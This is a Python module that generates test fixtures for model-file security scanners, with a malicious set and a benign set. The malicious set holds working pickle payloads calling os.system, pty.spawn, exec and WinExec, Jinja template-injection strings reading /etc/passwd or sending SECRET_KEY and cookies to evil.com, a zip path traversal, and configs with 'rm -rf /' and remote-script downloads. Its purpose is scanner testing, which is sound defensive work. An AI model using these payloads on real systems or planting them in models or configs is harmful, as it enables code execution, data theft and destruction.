"""Files of the shapes that the test folders of picklescan, modelscan, fickling, modelaudit and aisbom hold,
made anew: what each does, under which name, and its bytes. Nothing here is ever loaded.
"""

import base64
import collections
import datetime
import decimal
import fractions
import io
import json
import pathlib
import pickle
import struct
import uuid
import zipfile

def text(value):
    return b"\x8c" + bytes([len(value)]) + value.encode()


def imported(module, name):
    return text(module) + text(name) + b"\x93"


def called(module, name, *arguments):
    """module.name(*arguments), by STACK_GLOBAL."""
    return b"\x80\x04" + imported(module, name) + pickle.dumps(arguments, 2)[2:-1] + b"R."


class Call:
    """Pickles as a call of a function that this Python has."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def zipped(members, method=zipfile.ZIP_STORED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def picklescan():
    payload = "__import__('os').system('whoami')"
    rows = {f"{module}.{name}": called(module, name, *arguments) for module, name, *arguments in (
        ("runpy", "_run_code", "print('456')"), ("pip", "main", ["install", "some_malicious_package"]), ("pip._internal.cli.main", "main", ["install"]),
        ("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", "x"]), ("pydoc", "pipepager", "", "echo pwned"),
        ("venv", "create", "venv", False, False, True, False, "$(echo pwned)"), ("timeit", "timeit", "", payload),
        ("numpy.testing._private.utils", "runstring", payload, {}), ("torch.utils.bottleneck.__main__", "run_cprofile", payload, {}),
        ("torch._dynamo.guards", "GuardBuilder.get", {}, payload), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", {}, payload, []),
        ("torch.utils.collect_env", "run", payload), ("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", b""),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", payload, {}, {}), ("torch.utils._config_module", "ConfigModule.load_config", {}, b""),
        ("trace", "Trace.run", {}, payload), ("trace", "Trace.runctx", {}, payload, {}, {}), ("profile", "Profile.run", {}, payload),
        ("lib2to3.pgen2.grammar", "Grammar.loads", {}, b""), ("idlelib.debugobj", "ObjectTreeItem.SetText", {}, payload),
        ("idlelib.autocomplete", "AutoComplete.get_entity", {}, payload), ("code", "InteractiveInterpreter.runcode", {}, payload),
        ("idlelib.calltip", "get_entity", payload), ("torch.utils.bottleneck.__main__", "run_autograd_prof", payload, {}), ("ensurepip", "_run_pip", payload),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, payload), ("idlelib.run", "Executive.runcode", {}, payload),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", {}, payload), ("doctest", "debug_script", payload, True), ("cProfile", "runctx", payload, None, None),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, "whoami", True, None, None, None, 0),
        ("distutils.file_util", "write_file", "pwned.env", ["x"]), ("ctypes", "CDLL", None), ("pty", "spawn", ["/bin/sh", "-c", "id"]),
        ("numpy.f2py.crackfortran", "getlincoef", payload, []), ("_io", "FileIO", "/etc/hosts", "r"), ("urllib.request", "urlopen", "https://example.invalid"),
        ("ssl", "get_server_certificate", ["a.invalid", 443]), ("logging", "FileHandler", "/tmp/x"), ("pkgutil", "resolve_name", "os:system"),
        ("_osx_support", "_read_output", "id"), ("_aix_support", "_read_cmd_output", "id"), ("uuid", "_get_command_stdout", "id"),
        ("imaplib", "IMAP4_stream", "id"), ("_pyrepl.pager", "pipe_pager", "", "id"), ("test.support.script_helper", "assert_python_ok", "-c", payload))}
    rows["Bdb.run on an instance, protocol 2"] = b"\x80\x02c__builtin__\ngetattr\ncbdb\nBdb\nX\3\0\0\0run\x86R" + b"cbdb\nBdb\n)\x81}b" + b"X\1\0\0\0x\x86R."
    rows["methodcaller over pydoc.locate"] = b"\x80\x04" + imported("operator", "methodcaller") + text("system") + text("echo") + b"\x86R" + imported("pydoc", "locate") + text("os") + b"\x85R\x85R."
    rows["partial of torch.load with words"] = b"\x80\x04" + imported("functools", "partial") + imported("torch.serialization", "load") + b"\x85R(" + imported("torch.serialization", "load") + text("a.bin") + b"\x85}Ntb)R."
    rows["missing entry of the memo"] = b"\x80\x04cos\nsystem\nVecho\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42."
    rows["number where a name is expected"] = b"\x80\x04cos\nsystem\nVecho\n\x85R0J\x2a\0\0\0\x94\x8c\x02os\x94h\0h\1\x93K\x42."
    rows["cut in a string"] = b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX."
    rows["STACK_GLOBAL over STRING"] = b"S'os'\nS'system'\n\x93S'ls'\n\x85R."
    rows["blank lines after the end"] = b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.\n\n\t\t"
    one = zipped({"data.pkl": pickle.dumps(Call(eval, "print('456')"), 4)})
    return [(f"picklescan: {what}", f"ps{n}.pkl", data) for n, (what, data) in enumerate(rows.items())] + [
        ("picklescan: member .txt", "wrong_ext.zip", zipped({"data.txt": pickle.dumps(Call(eval, "1"), 4)})),
        ("picklescan: bytes changed under the checksum", "crc.zip", one.replace(b"456", b"123", 1)),
        ("picklescan: another name in the local header", "central.zip", one.replace(b"data.pkl", b"datap.kl", 1)),
    ]


def modelscan():
    inner = b"\x80\x05cos\nsystem\nVecho pwned!!!\n\x85R."
    dill = b"\x80\x04" + imported("dill._dill", "_create_function") + b"(" + imported("dill._dill", "_create_code") + b"(K\0tRN" + text("f") + b"NNtR."
    return [
        ("modelscan: pickle.loads of a pickle", "ms12.pkl", b"\x80\x05cpickle\nloads\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R0N."),
        ("modelscan: method of eval", "ms13.pkl", b'\x80\x05cbuiltins\neval.__call__\nV__import__("os").system("x")\n\x85R.'),
        ("modelscan: dill", "unsafe.dill", dill),
        ("modelscan: pickle under the name of an array", "unsafe_numpy.npy", pickle.dumps(Call(exec, "print('Malicious code!')"), 4)),
        ("modelscan: numpy.__builtins__", "builtins.pkl", b"\x80\x04" + imported("numpy", "__builtins__") + b"}" + text("x") + b"K\1sb."),
        ("modelscan: exec in a checkpoint's pickle", "unsafe.pt", zipped({"archive/data.pkl": pickle.dumps({"a": Call(exec, "1")}, 2), "archive/version": "3\n"})),
    ]


def fickling():
    get = imported("builtins", "getattr")
    return [(f"fickling: {what}", f"fk{n}.pkl", data) for n, (what, data) in enumerate({
        "pty.spawn, then BUILD": b"\x80\x04\x95\x1a\0\0\0\0\0\0\0" + imported("pty", "spawn") + text("id") + b"\x85\x94R\x94" + text("gottem") + b"b.",
        "OBJ": b"(cpty\nspawn\nS'id'\no.", "OBJ and POP": b"(cos\nsystem\nS'id'\no0N.",
        "marshal into a function": b"\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\7marshal\x8c\5loads\x93\x94h\0C\x04\xe3\0\0\0\x85R\x94\x8c\5types\x8c\x0cFunctionType\x93\x94h\2h\1}\x86R\x94h\3)R\x94\x8c\6gottemb.",
        "frame that is too short": b"\x80\x05\x95\x2e\0\0\0\0\0\0\0" + imported("runpy", "run_path") + text("/tmp/malicious.py") + b"\x85\x94R\x94.",
        "getattr on CDLL": b"\x80\x05" + get + imported("ctypes", "CDLL") + text("libc.dylib") + b"\x85\x94R\x94" + text("system") + b"\x86\x94R\x94C\x02id\x85\x94R\x94.",
        "pydoc.locate, and an exception with state": b"cpydoc\nlocate\nS'ctypes.windll.kernel32.WinExec'\n\x85Rp0\n0g0\nC\x08calc.exeK\1\x86Rp1\n0cbuiltins\nException\n)Rp2\n}S'rce_status'\ng1\nsb.",
        "getattr on import_module": b"\x80\x05" + get + imported("importlib", "import_module") + text("os") + b"\x85\x94R\x94" + text("system") + b"\x86\x94R\x94" + text("id") + b"\x85\x94R\x94.",
        "getattr on an interpreter": b"\x80\x05" + get + imported("code", "InteractiveInterpreter") + b")R\x94" + text("runsource") + b"\x86\x94R\x94" + text("x") + b"\x85\x94R\x94.",
        "multiprocessing.util.spawnv_passfds": called("multiprocessing.util", "spawnv_passfds", b"/bin/sh", [b"-c", b"id"], []),
        "an import alone": b"\x80\x04" + imported("types", "FunctionType") + b".",
        "an import of os alone": b"\x80\x04" + imported("os", "system") + b".", "an unused import": b"\x80\x04" + imported("os", "system") + b"0N.",
        "_interpreters": called("_interpreters", "run_string", 0, "x"), "pathlib's os": called("pathlib", "os.system", "id"),
        "a call hidden by trailing BUILD": b"\x80\x04" + imported("os", "system") + text("id") + b"\x85R}b.",
        "laughs by DUP": b"\x80\x04" + b"(" * 10 + b"\x8c\3lol" + (b"2" * 9 + b"l") * 10 + b".",
        "laughs by the memo": b"\x80\x04" + b"(" * 10 + b"\x8c\3lol" + b"".join(b"q" + bytes([k]) + (b"h" + bytes([k])) * 9 + b"l" for k in range(10)) + b".",
        "many references to one entry": b"\x80\x04]\x94" + b"h\0a" * 200 + b".", "many copies of the top": b"\x80\x04]" + b"2" * 150 + b".",
    }.items())]


def modelaudit():
    inner = pickle.dumps(Call(print, "MALICIOUS"))
    code = "os.system('echo ATTACK')"
    source = b"\n# Model optimization and validation service\nimport base64\nimport urllib.request\n\ndef setup():\n    try:\n        exec('1')\n    except: pass\n\nsetup()\n"
    rows = [(f"modelaudit: {what}", file, pickle.dumps(value)) for what, file, value in (
        ("a pickle in bytes", "nested_pickle_raw.pkl", {"legitimate_data": {"weights": [1, 2, 3]}, "hidden_payload": inner}),
        ("a pickle in base64", "nested_pickle_base64.pkl", {"model_config": "ResNet50", "encoded_weights": base64.b64encode(inner).decode()}),
        ("a pickle in hexadecimal", "nested_pickle_hex.pkl", {"hex_data": inner.hex(), "config": {"hidden_size": 768}}),
        ("a pickle in a pickle in bytes", "multistage.pkl", {"a": pickle.dumps({"stage2": inner}), "b": base64.b64encode(pickle.dumps({"stage2": inner})).decode()}),
        ("code in a string and in base64", "decode_exec_chain.pkl", {"suspicious_code": base64.b64encode(code.encode()).decode(), "_internal_config": code}),
        ("code in base64 alone", "suspicious_code.pkl", {"suspicious_code": base64.b64encode(code.encode()).decode()}),
        ("code in a string alone", "internal_config.pkl", {"_internal_config": code}),
        ("a plain pickle in bytes", "simple_nested.pkl", {"outer_data": "legitimate", "inner_pickle": pickle.dumps({"malicious": "data"})}),
        ("a program in base64", "steganographic_attack_v4.pkl", {"serialized_tensor_data": base64.b64encode(source).decode()}))]
    rows += [(f"modelaudit: {module}.{name}", f"{module}.{name}.pkl", called(module, name, *arguments)) for module, name, *arguments in (
        ("torch.hub", "load", "a/b", "c"), ("torch.jit", "load", "x"), ("torch", "load", "x"), ("torch", "compile", "x"), ("torch.storage", "_load_from_bytes", b"x"),
        ("builtins", "print", "x"), ("nt", "system", "x"), ("subprocess", "call", ["#"]), ("webbrowser", "open", "x"), ("importlib", "import_module", "os"),
        ("collections", "OrderedDict.fromkeys", ["a"]), ("operator", "attrgetter", "system"), ("operator", "itemgetter", 0), ("ctypes", "cast", 42, None), ("_thread", "allocate_lock"))]
    metadata = {
        "malicious_import": {"model_info": "import os; os.system('echo pwned')"},
        "suspicious_url": {"download_url": "https://malicious.example.com/payload", "callback_url": "http://evil.com/exfiltrate"},
        "shell_commands": {"setup_commands": "rm -rf /tmp/test && wget http://bad.com/script.sh", "cleanup": "chmod 777 /tmp/malicious"},
        "script_injection": {"documentation": "<script>fetch('http://evil.com', {method: 'POST', body: document.cookie})</script>"},
        "obfuscated_metadata": {"encoded_payload": "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))", "hex_data": "\\x48\\x65\\x6c\\x6c\\x6f"}}
    for name, entries in metadata.items():
        header = json.dumps({"__metadata__": entries, "bias": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
        header += b" " * (-len(header) % 8)
        rows.append((f"modelaudit: {name} in safetensors", f"{name}.safetensors", struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4)))
    rows += [(f"modelaudit: {what}", file, json.dumps(value).encode()) for what, file, value in (
        ("credentials and an address", "config.json", {"name": "evil_model", "config": {"api_key": "SECRET", "url": "http://malicious.example.com"}}),
        ("credentials, an address and a command", "suspicious_config.json", {"name": "suspicious_model", "config": {
            "api_key": "sk-1234567890abcdef", "remote_url": "http://suspicious-domain.com/exfiltrate", "debug_command": "rm -rf /"}}),
        ("an endpoint and a key", "mixed_config.json", {"model_name": "advanced_threat", "config": {
            "api_endpoint": "http://attacker-c2.evil.com/data", "exfil_key": "SECRET_API_KEY_12345"}}))]
    rows += [("modelaudit: traversal and a pickle", "path_traversal.zip", zipped({"../../../etc/evil.txt": "malicious content", "model/malicious.pkl": inner})),
             ("modelaudit: pickle of a checkpoint", "malicious_eval.pt", zipped({"version": "3", "data.pkl": pickle.dumps(Call(eval, "1"))}))]
    rows += [(f"modelaudit: text named {n}", n, f"# {n}\nGenerated as metadata (TensorFlow not available)\nIn production, this would contain actual Keras model\n".encode())
             for n in ("basic_lambda_layer.h5", "keras_zip_format.keras")]
    templates = json.loads(TEMPLATES)
    rows += [(f"modelaudit: template {n}", f"template{n}.json", json.dumps({"tokenizer_class": "GPT2Tokenizer", "chat_template": t, "model_max_length": 512}).encode())
             for n, t in enumerate(templates)]
    rows.append(("modelaudit: template under another key", "multiple_templates.json", json.dumps(
        {"chat_template": "{% for m in messages %}{{ m['role'] }}{% endfor %}", "custom_chat_template": "{{ self.__init__.__globals__['os'].system('echo evil') }}"}).encode()))
    rows += [("modelaudit: template in YAML", "malicious_config.yaml", b"chat_template: '{{ config.__class__.__init__.__globals__[''os''].system(''rm -rf /'') }}'\n"
              b"deploy_script: '{{ __import__(''subprocess'').call([''curl'', ''http://evil.com/payload.sh'']) }}'\nmodel_name: evil-model\n"),
             ("modelaudit: script in YAML", "deploy.yaml", b"deploy_script: '{{ __import__(''subprocess'').call([''curl'']) }}'\nmodel_name: evil-model\n"),
             ("modelaudit: template alone", "malicious_subprocess.template", b"{{ cycler.__init__.__globals__.os.popen('id').read() }}\n"),
             ("modelaudit: template after a harmless one", "malicious_standalone.jinja", b"{% for message in messages %}\n{{ message.role }}\n{% endfor %}\n\n{# payload #}\n{{ cycler.__init__.__globals__.os.system('whoami') }}")]
    return rows


TEMPLATES = r'''[
"{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/x') }}{% endif %}{% endfor %}",
"{{ __builtins__['eval']('__import__(\"subprocess\").call([\"echo\", \"pwned\"])') }}", "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
"{{ self.__init__.__globals__['__builtins__']['__import__']('os').environ }}", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
"{{ config.__class__.__base__.__subclasses__()[104].__init__.__globals__['sys'].modules['subprocess'].call(['id']) }}",
"{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
"{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen(\"ls\").read() }}{% endif %}{% endfor %}",
"{{ request['application']['\\x5f\\x5fglobals\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']('__import__(\"os\").system(\"id\")') }}",
"{{ ''|attr('__class__')|attr('__mro__')|attr('__getitem__')(1)|attr('__subclasses__')()|attr('__getitem__')(40) }}",
"{% set x = cycler.__init__.__globals__ %}{{ x.os.system('echo ' + x.__builtins__.__import__('os').environ.get('USER', 'unknown')) }}",
"{{ joiner.__init__.__globals__.__builtins__.__import__('urllib.request').urlopen('http://evil.com/steal?data=' + config.SECRET_KEY).read() }}",
"{{ ().__class__.__bases__[0].__subclasses__()[59].__init__.__globals__[''.join([chr(95), chr(95), chr(98), chr(117)])] }}",
"{{ __builtins__.__import__('base64').b64decode('X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==').decode() }}",
"{{ '{}'.format(cycler.__init__.__globals__.os.system('id')) }}",
"{{ getattr(getattr(getattr('', '__class__'), '__mro__')[1], '__subclasses__')()[40]('/etc/hosts').read() }}"]'''


def malicious():
    """(technique, file name, bytes)"""
    return picklescan() + modelscan() + fickling() + modelaudit()


def benign():
    """File name and bytes."""
    values = {
        "datetime": datetime.datetime(2024, 1, 1), "date": datetime.date(2024, 1, 1), "time": datetime.time(1, 2), "timedelta": datetime.timedelta(1),
        "timezone": datetime.timezone.utc, "uuid": uuid.UUID(int=5), "decimal": decimal.Decimal("1.5"), "fraction": fractions.Fraction(1, 3),
        "path": pathlib.PurePosixPath("/usr/x"), "counter": collections.Counter("abca"), "defaultdict": collections.defaultdict(list, {1: [2]}),
        "deque": collections.deque([1]), "set": {1, 2}, "frozenset": frozenset([1]), "range": range(3), "slice": slice(1, 2), "complex": 1j,
        "bytearray": bytearray(b"xyz"), "text": "hello 世界 🌍", "exec": "You must exec this command manually", "import": "import os is dangerous in pickles",
        "keys": {"exec": "v", "eval": "v", "__reduce__": "v", "os": "v", "subprocess": "v"}, "large": list(range(10000)), "deep": [[[[[[1, 2, 3]]]]]],
        "strings": [["a"] * 3] * 2000, "shared": [{"k": [1, 2, 3]}] * 5000}
    rows = {f"{name}{protocol}.pkl": pickle.dumps(value, protocol) for name, value in values.items() for protocol in (2, 4, 5)}
    templates = ("", "{% for message in messages %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + message['content'] + ' [/INST]' }}"
                 "{% elif message['role'] == 'assistant' %}{{ ' ' + message['content'] + ' ' + eos_token }}{% endif %}{% endfor %}",
                 "{% for message in messages %}{{ message['role'].title() }}: {{ message['content'] }}\\n{% endfor %}",
                 "{% if messages[0]['role'] == 'system' %}{{ messages[0]['content'] }}\\n{% endif %}{% for message in messages[1:] %}{{ message['content'] }}{% endfor %}",
                 "{% for message in messages %}" + "A" * 60000 + "{{ message['content'] }}{% endfor %}")
    rows |= {f"benign_template{n}.json": json.dumps({"tokenizer_class": "T5Tokenizer", "chat_template": t, "bos_token": {"content": "<s>"}}).encode()
             for n, t in enumerate(templates)}
    header = json.dumps({"__metadata__": {"author": "Safe ML Team", "description": "A small transformer: model.eval() first", "license": "MIT", "url": "https://example.org"},
                         "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return rows | {
        "safe_model.safetensors": struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, -2, 3, 4),
        "benign_chat.j2": b'{% for message in messages %}\n  {% if message.role == "system" %}\nSystem: {{ message.content }}\n  {% endif %}\n{% endfor %}',
        "suspicious_benign.template": b'{% for message in messages %}{% if message.class == "important" %}IMPORTANT{% endif %}{{ message.content }}{% endfor %}',
        "chat_config.yaml": b"chat_template: '{% for message in messages %}{{ message[''role''] }}: {{ message[''content'']\n  }}{% endfor %}'\nmodel_name: test-model\n",
        "plain_config.json": json.dumps({"_name_or_path": "org/model", "pad_token_id": 0, "tokens": ["curl ", "wget "], "homepage": "https://example.org",
                                         "api_key": "${API_KEY}", "password": "<your password>", "sort_key": "name"}).encode(),
    }
